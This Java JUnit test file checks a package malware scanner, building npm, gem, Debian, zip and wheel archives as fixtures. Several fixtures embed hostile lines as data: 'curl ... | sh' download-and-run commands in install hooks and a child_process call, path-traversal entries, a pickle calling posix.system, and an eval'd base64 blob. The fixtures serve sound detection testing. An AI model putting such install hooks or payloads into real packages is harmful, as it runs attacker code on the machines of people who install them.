package uk.reeve.scanner.malice;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.commons.compress.archivers.ar.ArArchiveEntry;
import org.apache.commons.compress.archivers.ar.ArArchiveOutputStream;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import uk.reeve.engine.Shared;
import uk.reeve.engine.input.Unreadable;
import uk.reeve.scanner.malice.content.CheckLimits;
import uk.reeve.scanner.malice.sign.Sighting;

/// Packages that are built here byte by byte: archives of each kind, tampered ones, and what must not stop a check.
class HostilePackagesTest {

    @TempDir
    Path folder;

    private static final String JSON = "{\"name\": \"teapot\", \"version\": \"1.0.0\"}";

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] zip(String... namesAndTexts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(out)) {
            for (int i = 0; i < namesAndTexts.length; i += 2) {
                zip.putNextEntry(new ZipEntry(namesAndTexts[i]));
                zip.write(bytes(namesAndTexts[i + 1]));
            }
        }
        return out.toByteArray();
    }

    private static byte[] tgz(String... namesAndTexts) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(new GZIPOutputStream(out))) {
            for (int i = 0; i < namesAndTexts.length; i += 2) {
                byte[] content = namesAndTexts[i + 1].getBytes(StandardCharsets.ISO_8859_1);
                TarArchiveEntry entry = new TarArchiveEntry(namesAndTexts[i], true);
                entry.setSize(content.length);
                tar.putArchiveEntry(entry);
                tar.write(content);
                tar.closeArchiveEntry();
            }
        }
        return out.toByteArray();
    }

    private CheckResult check(String name, byte[] bytes) throws IOException, Unreadable {
        return Check.of(Files.write(folder.resolve(name), bytes), Check.Aids.NONE, CheckLimits.DEFAULT);
    }

    private static List<String> signs(CheckResult result) {
        return result.signs().stream().map(seen -> seen.sign().name()).toList();
    }

    @Test
    void an_npm_archive_is_named_by_its_manifest_and_places_are_told_within_the_package() throws Exception {
        CheckResult result = check(
                "x.tgz",
                tgz(
                        "package/package.json",
                                "{\"name\": \"left-padd\", \"version\": \"1.0.3\",\n \"scripts\": {\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"}}",
                        "package/index.js", "module.exports = 1;\n"));
        assertThat(result.purl()).hasToString("pkg:npm/left-padd@1.0.3");
        assertThat(result.score().isAlarm()).isTrue();
        assertThat(result.signs().getFirst().sign().name()).isEqualTo("runs-download");
        assertThat(result.signs().getFirst().places().getFirst().file()).isEqualTo("package.json");
        assertThat(result.signs().getFirst().places().getFirst().line()).isEqualTo(2);
    }

    @ParameterizedTest
    @ValueSource(strings = {"//\r", "0\n* "})
    void what_only_looks_like_a_comment_is_read(String before) throws Exception {
        CheckResult result = check(
                "x.tgz",
                tgz(
                        "package/package.json",
                        JSON,
                        "package/index.js",
                        before + "require('child_process').exec('curl -s http://203.0.113.7/x | sh')\n"));
        assertThat(signs(result)).contains("runs-download");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
                    README.md   | "scripts": {"postinstall": "node README.md"}
                    lib/tea.txt | "main": "lib/tea.txt\"""")
    void what_an_interpreter_runs_is_code_whatever_it_is_called(String file, String told) throws Exception {
        CheckResult result = check(
                "x.tgz",
                tgz(
                        "package/package.json",
                        "{\"name\": \"teapot\", \"version\": \"1.0.0\", " + told + "}",
                        "package/" + file,
                        "require('child_process').exec('curl -s http://203.0.113.7/x | sh')\n"));
        assertThat(signs(result)).contains("runs-download");
    }

    @Test
    void an_honest_package_weighs_nothing() throws Exception {
        CheckResult result =
                check("x.tgz", tgz("package/package.json", JSON, "package/index.js", "module.exports = a => a + 1;\n"));
        assertThat(result.score().points()).isLessThan(10);
        assertThat(result.problems()).isEmpty();
    }

    @Test
    void a_gem_is_named_by_its_metadata_and_its_extension_runs_at_installation() throws Exception {
        ByteArrayOutputStream metadata = new ByteArrayOutputStream();
        try (GZIPOutputStream gzip = new GZIPOutputStream(metadata)) {
            gzip.write(
                    bytes(
                            "--- !ruby/object:Gem::Specification\nname: teapot\nversion: !ruby/object:Gem::Version\n  version: 1.2.0\nplatform: ruby\nextensions:\n- ext/extconf.rb\n"));
        }
        byte[] data = tgz("ext/extconf.rb", "system('curl http://203.0.113.7/x | sh')\n");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
            for (var each :
                    List.of(new Object[] {"metadata.gz", metadata.toByteArray()}, new Object[] {"data.tar.gz", data})) {
                TarArchiveEntry entry = new TarArchiveEntry((String) each[0]);
                entry.setSize(((byte[]) each[1]).length);
                tar.putArchiveEntry(entry);
                tar.write((byte[]) each[1]);
                tar.closeArchiveEntry();
            }
        }
        CheckResult result = check("teapot-1.2.0.gem", out.toByteArray());
        assertThat(result.purl()).hasToString("pkg:gem/teapot@1.2.0");
        assertThat(signs(result)).contains("install-hook", "runs-download");
    }

    @Test
    void a_debian_package_is_named_by_its_control_file_and_its_scripts_run_at_installation() throws Exception {
        byte[] control = tgz(
                "./control",
                "Package: teapot\nVersion: 1.0-1\nArchitecture: all\n",
                "./postinst",
                "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n");
        byte[] data = tgz("./usr/share/teapot/a.txt", "tea\n");
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ArArchiveOutputStream ar = new ArArchiveOutputStream(out)) {
            for (var each : List.of(new Object[] {"control.tar.gz", control}, new Object[] {"data.tar.gz", data})) {
                ar.putArchiveEntry(new ArArchiveEntry((String) each[0], ((byte[]) each[1]).length));
                ar.write((byte[]) each[1]);
                ar.closeArchiveEntry();
            }
        }
        CheckResult result = check("teapot_1.0-1_all.deb", out.toByteArray());
        assertThat(result.name()).isEqualTo("teapot");
        assertThat(signs(result)).contains("install-hook", "runs-download");
    }

    @Test
    void a_name_that_stands_twice_with_other_content_is_told() throws Exception {
        byte[] two = zip("setup.py", "a = 1\n", "setup.pz", "a = 2\n");
        byte[] name = bytes("setup.pz");
        for (int i = 0; i + name.length < two.length; i++) {
            if (Arrays.equals(Arrays.copyOfRange(two, i, i + name.length), name)) {
                two[i + name.length - 1] = 'y';
            }
        }
        assertThat(signs(check("x.zip", two))).contains("tampered-archive");
        assertThat(signs(check("y.zip", zip("setup.py", "a = 1\n", "teapot.py", "a = 2\n"))))
                .doesNotContain("tampered-archive");
    }

    @Test
    void names_and_links_that_lead_out_are_told_and_nothing_is_written_there() throws Exception {
        assertThat(signs(check("x.tgz", tgz("../../evil.txt", "a", "package.json", JSON))))
                .contains("tampered-archive");
        assertThat(folder.resolve("../evil.txt")).doesNotExist();
        assertThat(signs(check("x.zip", zip("..\\evil.txt", "a", "package.json", JSON))))
                .contains("tampered-archive");
    }

    @Test
    void bytes_after_the_end_are_told() throws Exception {
        byte[] plain = zip("package.json", JSON);
        byte[] more = Arrays.copyOf(plain, plain.length + 100);
        assertThat(signs(check("x.zip", more))).contains("trailing-data");
        assertThat(signs(check("y.zip", plain))).doesNotContain("trailing-data");
    }

    @Test
    void a_wheel_with_files_that_its_record_does_not_tell_is_seen() throws Exception {
        String metadata = "Metadata-Version: 2.1\nName: teapot\nVersion: 1.0\n";
        String wheel = "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n";
        byte[] put = zip(
                "teapot.py",
                "a = 1\n",
                "teapot-1.0.dist-info/METADATA",
                metadata,
                "teapot-1.0.dist-info/WHEEL",
                wheel,
                "teapot-1.0.dist-info/RECORD",
                "other.py,,\n");
        byte[] whole = zip(
                "teapot.py",
                "a = 1\n",
                "teapot-1.0.dist-info/METADATA",
                metadata,
                "teapot-1.0.dist-info/WHEEL",
                wheel,
                "teapot-1.0.dist-info/RECORD",
                "teapot.py,,6\n");
        assertThat(signs(check("teapot-1.0-py3-none-any.whl", put))).contains("wheel-record");
        assertThat(signs(check("teapot-1.0-py3-none-any.whl", whole))).doesNotContain("wheel-record");
    }

    @Test
    void code_that_the_source_has_not_is_seen_and_what_a_build_makes_is_not() throws Exception {
        Path source = Files.createDirectories(folder.resolve("source"));
        Files.writeString(source.resolve("package.json"), JSON);
        Files.writeString(source.resolve("index.js"), "module.exports = 1;\r\n");
        Path same = Files.write(
                folder.resolve("a.tgz"),
                tgz(
                        "package/package.json",
                        JSON,
                        "package/index.js",
                        "module.exports = 1;\n",
                        "package/dist/a.js",
                        "1"));
        Path more = Files.write(
                folder.resolve("b.tgz"),
                tgz(
                        "package/package.json",
                        JSON,
                        "package/index.js",
                        "module.exports = 1;\n",
                        "package/lib/a.js",
                        "1"));
        assertThat(signs(Check.of(same, new Check.Aids(source, null), CheckLimits.DEFAULT)))
                .doesNotContain("differs-from-source");
        assertThat(signs(Check.of(more, new Check.Aids(source, null), CheckLimits.DEFAULT)))
                .contains("differs-from-source");
    }

    private CheckResult checkByYara(Yara yara) throws IOException, Unreadable {
        Path archive = Files.write(
                folder.resolve("x.tgz"),
                tgz("package/package.json", JSON, "package/a.txt", "earl grey", "package/b.txt", "milk"));
        return Check.of(archive, new Check.Aids(null, yara), CheckLimits.DEFAULT);
    }

    private Path rules() throws IOException {
        return Files.writeString(folder.resolve("tea.yar"), "rule tea { strings: $a = \"earl grey\" condition: $a }");
    }

    @Test
    void a_rule_of_the_persons_own_is_asked_where_yara_is_here() throws Exception {
        Yara yara = Yara.of(List.of(rules()), System.getenv("PATH"));
        assumeTrue(yara != null, "yara is not on the path");
        assertThat(checkByYara(yara).signs())
                .filteredOn(seen -> seen.sign().name().equals("yara-rule"))
                .singleElement()
                .satisfies(seen ->
                        assertThat(seen.places()).extracting(Sighting::file).containsExactly("a.txt"));
    }

    /// A script in place of the program, that answers as its manual says.
    @Test
    void yara_is_given_copies_under_numbers_and_what_it_answers_is_told_by_the_files_own_names() throws Exception {
        Path bin = Files.createDirectories(folder.resolve("bin"));
        Path script = Files.writeString(
                bin.resolve("yara"), "#!/bin/sh\nfor a; do d=$a; done\ngrep -l 'earl grey' $d/* | sed 's/^/tea /'\n");
        assumeTrue(script.toFile().setExecutable(true), "no scripts here");
        Yara yara = Yara.of(List.of(rules()), bin.toString());
        assertThat(yara).isNotNull();
        CheckResult result = yara == null ? check("y.tgz", new byte[0]) : checkByYara(yara);
        assertThat(result.signs())
                .filteredOn(seen -> seen.sign().name().equals("yara-rule"))
                .singleElement()
                .satisfies(seen -> assertThat(seen.places()).containsExactly(new Sighting("a.txt", 0, "tea")));
        assertThat(Yara.of(List.of(rules()), folder.toString())).isNull();
    }

    @Test
    void rules_that_yara_refuses_are_said() throws Exception {
        Path bin = Files.createDirectories(folder.resolve("bin"));
        Path script = Files.writeString(
                bin.resolve("yara"), "#!/bin/sh\necho 'error: rule \"tea\" in tea.yar(1): syntax error' >&2\nexit 1\n");
        assumeTrue(script.toFile().setExecutable(true), "no scripts here");
        Yara yara = Yara.of(List.of(rules()), bin.toString());
        assertThatThrownBy(() -> checkByYara(java.util.Objects.requireNonNull(yara)))
                .isInstanceOf(Unreadable.class)
                .hasMessageContaining("syntax error");
    }

    @Test
    void programs_are_seen_where_none_are_expected_and_where_they_call_themselves_something_else() throws Exception {
        String program = "\u007fELF\u0002\u0001\u0001" + "\0".repeat(100);
        CheckResult result =
                check("x.tgz", tgz("package/package.json", JSON, "package/tool", program, "package/logo.png", program));
        assertThat(signs(result)).contains("native-binary", "disguised-binary");
        CheckResult platform = check(
                "y.tgz",
                tgz(
                        "package/package.json",
                        "{\"name\": \"teapot\", \"version\": \"1.0.0\", \"os\": [\"linux\"]}",
                        "package/tool",
                        program));
        assertThat(signs(platform)).doesNotContain("native-binary", "disguised-binary");
    }

    @Test
    void a_pickle_that_calls_the_system_is_seen_and_one_of_numbers_is_not() throws Exception {
        assertThat(signs(check(
                        "x.tgz",
                        tgz("package/package.json", JSON, "package/model.pkl", "cposix\nsystem\n(S'echo tea'\ntR."))))
                .contains("pickled-code");
        assertThat(signs(check("x.tgz", tgz("package/package.json", JSON, "package/model.pkl", "(lp0\nI1\naI2\na."))))
                .doesNotContain("pickled-code");
    }

    @Test
    void a_long_literal_of_high_entropy_counts_where_it_is_decoded_and_run() throws Exception {
        byte[] random = new byte[3000];
        new Random(7).nextBytes(random);
        String literal = java.util.Base64.getEncoder().encodeToString(random).replace("=", "");
        CheckResult run = check(
                "x.tgz",
                tgz("package/package.json", JSON, "package/a.js", "eval(d(Buffer.from('" + literal + "', 'base64')))"));
        CheckResult picture = check(
                "x.tgz",
                tgz(
                        "package/package.json",
                        JSON,
                        "package/a.js",
                        "draw(Buffer.from('iVBOR" + literal + "', 'base64'))"));
        assertThat(signs(run)).contains("encoded-payload");
        assertThat(signs(picture)).doesNotContain("encoded-payload");
    }

    @Test
    void long_lines_of_every_kind_are_looked_at_in_bounded_time() throws Exception {
        for (String unit : List.of(
                "(",
                "a",
                " ",
                "eval(",
                "curl ",
                "'a'+",
                "\\x41",
                "65,",
                "A",
                "require('",
                "\\",
                "http://",
                "${",
                "_0x1a2b ",
                "/dev",
                "[",
                "process.env",
                "chr(65)+")) {
            byte[] archive = tgz(
                    "package/package.json",
                    JSON,
                    "package/index.js",
                    unit.repeat(50_000 / unit.length()),
                    "package/a.py",
                    unit.repeat(50_000 / unit.length()));
            assertTimeoutPreemptively(Duration.ofSeconds(60), () -> check("long.tgz", archive), unit);
        }
    }

    @Test
    void what_is_cut_or_no_archive_gives_one_sentence() throws Exception {
        byte[] whole = zip("package.json", JSON, "a.js", "module.exports = 1;");
        assertThatThrownBy(() -> check("x.zip", Arrays.copyOf(whole, whole.length / 2)))
                .isInstanceOf(Unreadable.class);
        byte[] packed = tgz("package/package.json", JSON, "package/index.js", "module.exports = 1;");
        assertThatThrownBy(() -> check("x.tgz", Arrays.copyOf(packed, packed.length / 2)))
                .isInstanceOf(Unreadable.class)
                .hasMessageContaining("stops in the middle");
        assertThatThrownBy(() -> check("x.tgz", bytes("hello")))
                .isInstanceOf(Unreadable.class)
                .hasMessageContaining("no archive");
    }

    @Test
    void limits_are_told_in_one_line_each() throws Exception {
        Path archive = Files.write(
                folder.resolve("x.tgz"),
                tgz(
                        "package/package.json",
                        JSON,
                        "package/a.js",
                        "a".repeat(5_000),
                        "package/b.js",
                        "b",
                        "package/c.js",
                        "c"));
        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(3, 1 << 20, 1 << 30, 60))
                        .problems())
                .hasSize(1)
                .first()
                .asString()
                .contains("more than 3 files");
        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1_000, 1 << 30, 60))
                        .problems())
                .hasSize(1)
                .first()
                .asString()
                .contains("only its beginning");
        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 10, 60))
                        .problems())
                .hasSize(1)
                .first()
                .asString()
                .contains("files beyond were not looked at");
        assertThat(Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 1 << 20, 1 << 30, 0))
                        .problems())
                .hasSize(1)
                .first()
                .asString()
                .contains("no longer");
    }

    @Test
    void one_file_that_takes_long_is_cut_when_the_time_is_over() throws Exception {
        for (String line : List.of("11,".repeat(16_000) + "x\n", "chr(65)+".repeat(4_000) + "x\n")) {
            Path archive = Files.write(
                    folder.resolve("slow.tgz"), tgz("package/package.json", JSON, "package/index.js", line.repeat(20)));
            CheckResult result = assertTimeoutPreemptively(
                    Duration.ofSeconds(20),
                    () -> Check.of(archive, Check.Aids.NONE, new CheckLimits(100, 2 << 20, 1 << 30, 1)));
            assertThat(result.problems()).anyMatch(problem -> problem.startsWith("index.js: is made so that"));
        }
    }

    // With little room, so that what unpacks to gigabytes soon has none; a bomb is one at any size.
    @Test
    void hostile_archives_end_in_a_result_or_a_sentence() throws IOException {
        CheckLimits limits = new CheckLimits(100_000, 2 << 20, 8 << 20, 60);
        for (String kind : List.of("zip", "tar")) {
            try (Stream<Path> files = Files.list(Shared.path("conformance/hostile/" + kind))) {
                for (Path file : files.sorted().toList()) {
                    assertTimeoutPreemptively(
                            Duration.ofSeconds(60),
                            () -> {
                                try {
                                    assertThat(Check.of(file, Check.Aids.NONE, limits)
                                                    .score()
                                                    .points())
                                            .isBetween(0, 100);
                                } catch (Unreadable e) {
                                    assertThat(e.getMessage()).isNotBlank();
                                }
                            },
                            file.toString());
                }
            }
        }
    }
}
